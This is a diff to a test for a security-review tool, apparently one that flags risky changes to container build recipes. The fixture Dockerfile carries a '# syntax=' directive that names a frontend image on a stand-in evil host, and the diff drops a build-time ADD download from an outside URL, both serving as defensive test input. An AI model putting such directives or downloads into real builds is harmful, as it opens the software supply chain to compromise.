@@ -602,8 +602,7 @@ def test_review_flags_what_a_security_reviewer_must_see(heps: Any, repo: Path) -
         repo,
         "app",
         simple_recipe("app", version="1.0.1", build={"context": "../.."}),
-        Dockerfile="# syntax=evil.example.org/frontend\nFROM busybox:1.36\n"
-        "ADD https://example.org/x.tgz /x\n",
+        Dockerfile="# syntax=evil.example.org/frontend\nFROM busybox:1.36\n",
     )
     (repo / "app-recipes" / "app" / "inside-link").symlink_to("Dockerfile")
     webhook = TAKEOVER["mutating-webhook"][0].replace(
@@ -618,7 +617,6 @@ def test_review_flags_what_a_security_reviewer_must_see(heps: Any, repo: Path) -
     for fragment in (
         "changes the pipeline's settings (heps.yaml)",
         "changes the Jenkins jobs or pipelines",
-        "ADD https://example.org/x.tgz downloads at build time",
         "build.context: the whole repository is outside the recipe's folder",
         "symlinks app-recipes/app/inside-link",
         "a '# syntax=' directive names a builder frontend image",
